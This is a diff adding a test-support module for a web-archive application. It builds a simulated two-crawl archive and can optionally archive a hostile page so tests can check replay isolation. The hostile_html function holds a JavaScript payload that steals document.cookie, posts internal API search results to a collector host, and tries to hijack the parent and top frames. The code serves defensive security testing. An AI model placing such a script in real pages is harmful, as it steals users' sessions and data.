@@ -1,0 +1,107 @@
+"""An archive for the web-service, export and browser tests: two real crawls of the simulated
+outlet (an edit between them, unchanged feeds and sitemaps becoming revisits), and optionally a
+hostile page archived through the real store and index steps."""
+
+from __future__ import annotations
+
+import warnings
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+from archive import pipeline
+from archive.config import Config, load_config
+from archive.index import Index
+from archive.simulate import SimulatedOutlet
+from archive.warc import HttpRequestData, HttpResponseData, WarcWriter
+from tests.support import TWO_DOMAINS, write_config
+
+EDITED_HEADLINE = "A headline nobody announced"
+HOSTILE_ID = "999999"
+
+
+@dataclass(frozen=True)
+class Built:
+    config: Config
+    sim: SimulatedOutlet
+    edited_id: str
+    first_crawl_end: str
+    """fetched_at of the last capture of the first crawl."""
+    hostile_url: str | None = None
+
+    @property
+    def second_crawl_from(self) -> str:
+        """The 14-digit timestamp one second after the first crawl: the start of the second crawl's captures.
+
+        Computed on the datetime, not the digits: 18:35:59 plus one second is 18:36:00, not 18:35:60.
+        """
+        end = datetime.fromisoformat(self.first_crawl_end.replace("Z", "+00:00"))
+        return (end + timedelta(seconds=1)).strftime("%Y%m%d%H%M%S")
+
+
+def build_archive(directory: Path, sim: SimulatedOutlet, *, hostile_collector: str | None = None) -> Built:
+    config = load_config(write_config(directory, port=sim.port, replace=TWO_DOMAINS))
+    pipeline.run_cycle(config, "demo")
+    with Index(config.index_path, readonly=True) as idx:
+        first_end = idx.db.execute("SELECT max(fetched_at) FROM captures").fetchone()[0]
+    edited = sim.site.article_ids()[1]
+    sim.edit_headline(edited, EDITED_HEADLINE, declared=False)
+    pipeline.run_cycle(config, "demo")
+    hostile = None
+    if hostile_collector is not None:
+        hostile = archive_hostile_page(config, sim, hostile_collector)
+    return Built(config, sim, str(edited), first_end, hostile)
+
+
+def hostile_html(collector: str) -> bytes:
+    """A page whose script tries everything an archived page must not do to the app."""
+    return f"""<!doctype html><html><head><title>Hostile page</title></head><body>
+<h1 id="headline">An archived page with a hostile script</h1>
+<p>Body text of the hostile page.</p>
+<script>
+var stolen = document.cookie;
+fetch("{collector}/cookie?c=" + encodeURIComponent(stolen), {{mode: "no-cors"}}).catch(function () {{}});
+new Image().src = "{collector}/image?c=" + encodeURIComponent(stolen);
+fetch("/demo/api/search?q=Iran").then(function (r) {{ return r.text(); }}).then(function (t) {{
+  fetch("{collector}/api", {{method: "POST", mode: "no-cors", body: t}});
+}}).catch(function () {{ fetch("{collector}/api-failed", {{mode: "no-cors"}}); }});
+try {{ window.top.document.body.innerHTML = "<h1 id=pwned>PWNED</h1>"; }} catch (e) {{}}
+try {{ window.parent.document.title = "PWNED"; }} catch (e) {{}}
+try {{ window.top.location = "{collector}/navigated"; }} catch (e) {{}}
+document.getElementById("headline").textContent = "SCRIPT RAN";
+</script>
+</body></html>""".encode()
+
+
+def archive_hostile_page(config: Config, sim: SimulatedOutlet, collector: str) -> str:
+    """Write the hostile page to a WARC in the spool, then store, index and detect it as a crawl's."""
+    url = f"{sim.base_url('www.presstv.ir')}/Detail/2026/11/25/{HOSTILE_ID}/hostile-page"
+    body = hostile_html(collector)
+    request = HttpRequestData("GET", url, (("Host", f"www.presstv.ir:{sim.port}"),))
+    response = HttpResponseData(
+        200,
+        "OK",
+        (
+            ("Content-Type", "text/html; charset=utf-8"),
+            ("Content-Length", str(len(body))),
+            ("Set-Cookie", "archived=1; Path=/"),
+        ),
+        body,
+    )
+    with WarcWriter(config.spool_dir("demo"), "demo-hostile") as writer:
+        writer.write_exchange(request, response, fetched_at=datetime.now(UTC))
+    pipeline.store(config, "demo")
+    pipeline.index(config, "demo")
+    pipeline.detect(config, "demo")
+    return url
+
+
+def api_client(config: Config) -> Any:
+    """FastAPI's TestClient; importing it warns that starlette prefers httpx2, which is not ours to fix."""
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # StarletteDeprecationWarning: starlette now prefers httpx2
+        from fastapi.testclient import TestClient
+    from archive.api import create_app
+
+    return TestClient(create_app(config), follow_redirects=False)
